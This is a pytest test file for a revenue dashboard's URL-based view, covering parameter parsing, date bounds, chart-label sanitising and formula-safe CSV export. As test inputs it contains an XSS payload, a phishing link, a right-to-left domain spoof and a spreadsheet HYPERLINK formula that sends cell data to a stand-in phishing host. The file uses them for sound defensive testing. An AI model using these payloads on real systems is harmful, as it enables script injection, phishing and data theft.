"""The Revenue page's view in the URL: read leniently, written minimally, the same view back."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from core.revenue.definitions import Measures
from core.revenue.queries import EARLIEST, CohortCell, Period, Row
from core.revenue.view import MAX_DAYS, RevenueView, chart_label, cohorts_csv, rows_csv

TODAY = date(2025, 6, 15)


def test_defaults_are_the_last_30_days_by_day_converted() -> None:
    view = RevenueView.from_query_params({})
    period = view.period(TODAY)
    assert (period.start, period.end, period.days) == (date(2025, 5, 17), TODAY, 30)
    assert (view.grain, view.currency, view.split) == ("day", None, "charge_type")
    assert view.to_query_params() == {}


@pytest.mark.parametrize("params", [
    {"period": "90d", "by": "week"},
    {"from": "2025-01-01", "to": "2025-03-31", "by": "month", "currency": "eur"},
    {"period": "365d", "split": "currency"},
])
def test_round_trip(params: dict[str, str]) -> None:
    view = RevenueView.from_query_params(params)
    assert view.to_query_params() == params
    assert RevenueView.from_query_params(view.to_query_params()) == view


def test_custom_dates_are_inclusive_ordered_and_bounded() -> None:
    view = RevenueView.from_query_params({"from": "2025-03-31", "to": "2025-01-01"})
    assert view.period(TODAY).start == date(2025, 1, 1) and view.period(TODAY).end == date(2025, 3, 31)
    assert view.period(TODAY).bounds[1].isoformat() == "2025-04-01T00:00:00", "the last day is included"
    long = RevenueView.from_query_params({"from": "2000-01-01", "to": "2025-01-01"}).period(TODAY)
    assert long.days == MAX_DAYS and long.end == date(2025, 1, 1)


@pytest.mark.parametrize("params", [{"period": "2y"}, {"by": "hour"}, {"currency": "<b>"}, {"from": "2025-13-01",
                                                                                          "to": "2025-01-01"},
                                    {"split": "merchant"}, {"currency": ["usd", "x"]}])
def test_bad_values_fall_back_to_defaults(params: dict) -> None:
    view = RevenueView.from_query_params(params)
    assert view.to_query_params() == {}
    assert view.period(TODAY).days == 30


@pytest.mark.parametrize("name", ["<a href='https://phish.example'>Pay</a>", "<img src=x onerror=alert(1)>",
                                  "Refund Desk \u202emoc.elpmaxe-hsihp\u202c", "Line<br>break", "A" * 300])
def test_merchant_names_in_charts_are_text(name: str) -> None:
    label = chart_label(name)
    assert "<" not in label and "\u202e" not in label and len(label) <= 60


def test_dates_beyond_today_or_before_1970_are_cut_with_one_line() -> None:
    """?to= a future date and ?from=0001-01-01 used to crash the page (date overflow, date_input bounds)."""
    future = RevenueView.from_query_params({"from": "2025-06-01", "to": "9999-12-31"})
    assert (future.period(TODAY).start, future.period(TODAY).end) == (date(2025, 6, 1), TODAY)
    assert "9999-12-31" in (future.notice(TODAY) or "")
    ancient = RevenueView.from_query_params({"from": "0001-01-01", "to": "0001-01-31"})
    period = ancient.period(TODAY)
    assert period.start >= EARLIEST and period.end >= period.start and period.previous().days == period.days
    assert ancient.notice(TODAY) and len(ancient.notice(TODAY).splitlines()) == 1
    assert RevenueView.from_query_params({"from": "2025-01-01", "to": "2025-03-31"}).notice(TODAY) is None


def test_csvs_are_formula_safe() -> None:
    """Every CSV goes through core/export: a merchant's name cannot become a spreadsheet formula."""
    evil = '=HYPERLINK("https://phish.example/?d="&A1,"Refund")'
    rows = [Row(keys={"merchant": "acct_1", "business_name": evil}, measures=Measures(currency="usd", gmv=-5))]
    lines = list(csv.reader(io.StringIO(rows_csv(rows))))
    assert lines[1][1] == "'" + evil and lines[1][4] == "-5"
    cells = [CohortCell(cohort=date(2025, 1, 1), months=0, currency="usd", gmv=100, merchants=1)]
    assert cohorts_csv(cells).splitlines() == ["cohort,months,currency,gmv,merchants", "2025-01-01,0,usd,100,1"]


def test_a_period_is_bounded() -> None:
    with pytest.raises(ValueError):
        Period(start=date(9999, 12, 30), end=date(9999, 12, 31))
    with pytest.raises(ValueError):
        Period(start=date(1, 1, 1), end=date(1, 1, 31))
